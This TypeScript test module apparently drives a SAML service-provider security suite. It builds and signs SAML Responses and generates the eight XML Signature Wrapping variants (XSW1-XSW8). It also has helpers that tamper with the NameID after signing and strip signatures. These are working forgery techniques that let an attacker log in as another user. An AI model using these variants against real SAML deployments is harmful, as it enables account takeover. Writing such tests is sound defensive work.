/**
 * A test IdP that writes SAML Responses and the attacks on them (security-bar §6 cases 13-22):
 * `buildResponse` writes a Response for an SP, `signResponse` signs its Assertion and/or the
 * Response with xml-crypto (any algorithm, including the SHA-1 ones the SP must refuse, with or
 * without the certificate in KeyInfo), and `xswVariants` derives XSW1-XSW8 (Somorovsky et al.,
 * "On Breaking SAML"; the eight variants SAML Raider generates) from one valid signed Response:
 * each keeps the original signed element somewhere the signature still verifies and adds an
 * evil Assertion naming another user.
 */
import { randomBytes } from 'node:crypto';
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';

export const SAML_NS = {
  protocol: 'urn:oasis:names:tc:SAML:2.0:protocol',
  assertion: 'urn:oasis:names:tc:SAML:2.0:assertion',
  dsig: 'http://www.w3.org/2000/09/xmldsig#',
} as const;

export const ALGORITHMS = {
  'rsa-sha1': 'http://www.w3.org/2000/09/xmldsig#rsa-sha1',
  'rsa-sha256': 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256',
  'rsa-sha512': 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha512',
  sha1: 'http://www.w3.org/2000/09/xmldsig#sha1',
  sha256: 'http://www.w3.org/2001/04/xmlenc#sha256',
  sha512: 'http://www.w3.org/2001/04/xmlenc#sha512',
} as const;

export interface ResponseInput {
  idpEntityId: string;
  spEntityId: string;
  acsUrl: string;
  inResponseTo: string | null;
  /** Inserted as-is (already escaped): tests use it to place comments inside the NameID. */
  nameIdXml: string;
  nameIdFormat?: string;
  responseId?: string;
  assertionId?: string;
  destination?: string;
  recipient?: string;
  audience?: string;
  now?: Date;
  /** Conditions/@NotOnOrAfter and SubjectConfirmationData/@NotOnOrAfter. */
  notOnOrAfter?: Date;
  authnContextClassRef?: string;
  attributes?: Record<string, string>;
}

export function samlId(): string {
  return `_${randomBytes(20).toString('hex')}`;
}

const esc = (s: string) => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/"/g, '&quot;');

/** An unsigned Response with one Assertion, in schema order. */
export function buildResponse(i: ResponseInput): string {
  const now = i.now ?? new Date();
  const at = (d: Date) => d.toISOString().replace(/\.\d{3}Z$/, 'Z');
  const until = i.notOnOrAfter ?? new Date(now.getTime() + 5 * 60_000);
  const irt = i.inResponseTo === null ? '' : ` InResponseTo="${esc(i.inResponseTo)}"`;
  const attrs = Object.entries(i.attributes ?? {})
    .map(([k, v]) => `<saml:Attribute Name="${esc(k)}"><saml:AttributeValue>${esc(v)}</saml:AttributeValue></saml:Attribute>`)
    .join('');
  return (
    `<samlp:Response xmlns:samlp="${SAML_NS.protocol}" xmlns:saml="${SAML_NS.assertion}" ID="${i.responseId ?? samlId()}" Version="2.0" IssueInstant="${at(now)}" Destination="${esc(i.destination ?? i.acsUrl)}"${irt}>` +
    `<saml:Issuer>${esc(i.idpEntityId)}</saml:Issuer>` +
    `<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>` +
    `<saml:Assertion ID="${i.assertionId ?? samlId()}" Version="2.0" IssueInstant="${at(now)}">` +
    `<saml:Issuer>${esc(i.idpEntityId)}</saml:Issuer>` +
    `<saml:Subject><saml:NameID Format="${i.nameIdFormat ?? 'urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress'}">${i.nameIdXml}</saml:NameID>` +
    `<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData${irt} NotOnOrAfter="${at(until)}" Recipient="${esc(i.recipient ?? i.acsUrl)}"/></saml:SubjectConfirmation></saml:Subject>` +
    `<saml:Conditions NotBefore="${at(new Date(now.getTime() - 30_000))}" NotOnOrAfter="${at(until)}"><saml:AudienceRestriction><saml:Audience>${esc(i.audience ?? i.spEntityId)}</saml:Audience></saml:AudienceRestriction></saml:Conditions>` +
    `<saml:AuthnStatement AuthnInstant="${at(now)}" SessionIndex="${samlId()}"><saml:AuthnContext><saml:AuthnContextClassRef>${esc(i.authnContextClassRef ?? 'urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport')}</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>` +
    (attrs ? `<saml:AttributeStatement>${attrs}</saml:AttributeStatement>` : '') +
    `</saml:Assertion></samlp:Response>`
  );
}

export interface SignOptions {
  privateKeyPem: string;
  /** Put this certificate in KeyInfo (X509Data). */
  certificatePem?: string;
  what: 'assertion' | 'response' | 'both';
  signatureAlgorithm?: keyof Pick<typeof ALGORITHMS, 'rsa-sha1' | 'rsa-sha256' | 'rsa-sha512'>;
  digestAlgorithm?: keyof Pick<typeof ALGORITHMS, 'sha1' | 'sha256' | 'sha512'>;
}

function signAt(xml: string, target: 'assertion' | 'response', o: SignOptions): string {
  const sig = new SignedXml({
    privateKey: o.privateKeyPem,
    ...(o.certificatePem ? { publicCert: o.certificatePem } : {}),
    canonicalizationAlgorithm: 'http://www.w3.org/2001/10/xml-exc-c14n#',
    signatureAlgorithm: ALGORITHMS[o.signatureAlgorithm ?? 'rsa-sha256'],
  });
  const element = target === 'assertion' ? "/*/*[local-name(.)='Assertion']" : '/*';
  sig.addReference({
    xpath: element,
    transforms: ['http://www.w3.org/2000/09/xmldsig#enveloped-signature', 'http://www.w3.org/2001/10/xml-exc-c14n#'],
    digestAlgorithm: ALGORITHMS[o.digestAlgorithm ?? 'sha256'],
  });
  if (!o.certificatePem) sig.getKeyInfoContent = () => null;
  sig.computeSignature(xml, { prefix: 'ds', location: { reference: `${element}/*[local-name(.)='Issuer']`, action: 'after' } });
  return sig.getSignedXml();
}

/** Signs the Assertion, the Response, or both (the Assertion first, so the Response signature covers it). */
export function signResponse(xml: string, o: SignOptions): string {
  let out = xml;
  if (o.what === 'assertion' || o.what === 'both') out = signAt(out, 'assertion', o);
  if (o.what === 'response' || o.what === 'both') out = signAt(out, 'response', o);
  return out;
}

function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml') as unknown as Document;
}

function serialize(doc: Document | Node): string {
  return new XMLSerializer().serializeToString(doc as never);
}

function child(parent: Element, ns: string, local: string): Element {
  for (let n = parent.firstChild; n; n = n.nextSibling) {
    if (n.nodeType === 1 && (n as Element).namespaceURI === ns && (n as Element).localName === local) return n as Element;
  }
  throw new Error(`no ${local} under ${parent.localName}`);
}

function setNameId(assertion: Element, nameId: string): void {
  const subject = child(assertion, SAML_NS.assertion, 'Subject');
  child(subject, SAML_NS.assertion, 'NameID').textContent = nameId;
}

/** The evil Assertion: a copy of `assertion` naming `evilNameId`, with a new ID and no signature. */
function evilCopy(assertion: Element, evilNameId: string, keepSignature = false): Element {
  const evil = assertion.cloneNode(true) as Element;
  evil.setAttribute('ID', samlId());
  if (!keepSignature) {
    for (let n = evil.firstChild; n; n = n.nextSibling) {
      if (n.nodeType === 1 && (n as Element).localName === 'Signature') {
        evil.removeChild(n);
        break;
      }
    }
  }
  setNameId(evil, evilNameId);
  return evil;
}

function withoutSignature(e: Element): Element {
  const copy = e.cloneNode(true) as Element;
  for (let n = copy.firstChild; n; n = n.nextSibling) {
    if (n.nodeType === 1 && (n as Element).localName === 'Signature') {
      copy.removeChild(n);
      break;
    }
  }
  return copy;
}

export type XswName = 'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8';

/**
 * XSW1-2 from a Response signed as a whole (`signedResponseXml`), XSW3-8 from a Response whose
 * Assertion is signed (`signedAssertionXml`); every variant names `evilNameId` in the Assertion an
 * SP that follows the wrong element would read.
 */
export function xswVariants(signedResponseXml: string, signedAssertionXml: string, evilNameId: string): Record<XswName, string> {
  const out = {} as Record<XswName, string>;

  // XSW1: evil Response (new ID, evil NameID) at the root; the original signed Response as a child of its Signature.
  // XSW2: the same with the original Response as a sibling placed before the Signature.
  for (const name of ['XSW1', 'XSW2'] as const) {
    const doc = parse(signedResponseXml);
    const root = doc.documentElement;
    const originalSigned = root.cloneNode(true) as Element;
    root.setAttribute('ID', samlId());
    setNameId(child(root, SAML_NS.assertion, 'Assertion'), evilNameId);
    const signature = child(root, SAML_NS.dsig, 'Signature');
    if (name === 'XSW1') signature.appendChild(originalSigned);
    else root.insertBefore(originalSigned, signature);
    out[name] = serialize(doc);
  }

  // XSW3: an evil Assertion inserted before the signed one.
  {
    const doc = parse(signedAssertionXml);
    const assertion = child(doc.documentElement, SAML_NS.assertion, 'Assertion');
    doc.documentElement.insertBefore(evilCopy(assertion, evilNameId), assertion);
    out.XSW3 = serialize(doc);
  }
  // XSW4: the signed Assertion moved inside the evil one.
  {
    const doc = parse(signedAssertionXml);
    const assertion = child(doc.documentElement, SAML_NS.assertion, 'Assertion');
    const evil = evilCopy(assertion, evilNameId);
    doc.documentElement.replaceChild(evil, assertion);
    evil.appendChild(assertion);
    out.XSW4 = serialize(doc);
  }
  // XSW5: the evil Assertion carries the original Signature; an unsigned copy of the original is appended to the Response.
  {
    const doc = parse(signedAssertionXml);
    const assertion = child(doc.documentElement, SAML_NS.assertion, 'Assertion');
    const evil = evilCopy(assertion, evilNameId, true);
    const original = withoutSignature(assertion);
    doc.documentElement.replaceChild(evil, assertion);
    doc.documentElement.appendChild(original);
    out.XSW5 = serialize(doc);
  }
  // XSW6: as XSW5, with the original (unsigned) Assertion inside the evil Assertion's Signature.
  // XSW8: as XSW6, inside a ds:Object of that Signature.
  for (const name of ['XSW6', 'XSW8'] as const) {
    const doc = parse(signedAssertionXml);
    const assertion = child(doc.documentElement, SAML_NS.assertion, 'Assertion');
    const evil = evilCopy(assertion, evilNameId, true);
    const original = withoutSignature(assertion);
    doc.documentElement.replaceChild(evil, assertion);
    const signature = child(evil, SAML_NS.dsig, 'Signature');
    if (name === 'XSW6') {
      signature.appendChild(original);
    } else {
      const object = doc.createElementNS(SAML_NS.dsig, 'ds:Object');
      object.appendChild(original);
      signature.appendChild(object);
    }
    out[name] = serialize(doc);
  }
  // XSW7: the signed Assertion hidden in samlp:Extensions; the evil (unsigned) Assertion in its place.
  {
    const doc = parse(signedAssertionXml);
    const root = doc.documentElement;
    const assertion = child(root, SAML_NS.assertion, 'Assertion');
    const evil = evilCopy(assertion, evilNameId);
    root.replaceChild(evil, assertion);
    const extensions = doc.createElementNS(SAML_NS.protocol, 'samlp:Extensions');
    extensions.appendChild(assertion);
    root.insertBefore(extensions, child(root, SAML_NS.protocol, 'Status'));
    out.XSW7 = serialize(doc);
  }
  return out;
}

/** Replaces the text of the first NameID after signing (case 17). */
export function editNameId(xml: string, nameId: string): string {
  return xml.replace(/(<saml:NameID[^>]*>)[^<]*(<\/saml:NameID>)/, `$1${nameId}$2`);
}

/** Removes every ds:Signature (case 14). */
export function stripSignatures(xml: string): string {
  return xml.replace(/<ds:Signature[\s\S]*?<\/ds:Signature>/g, '');
}
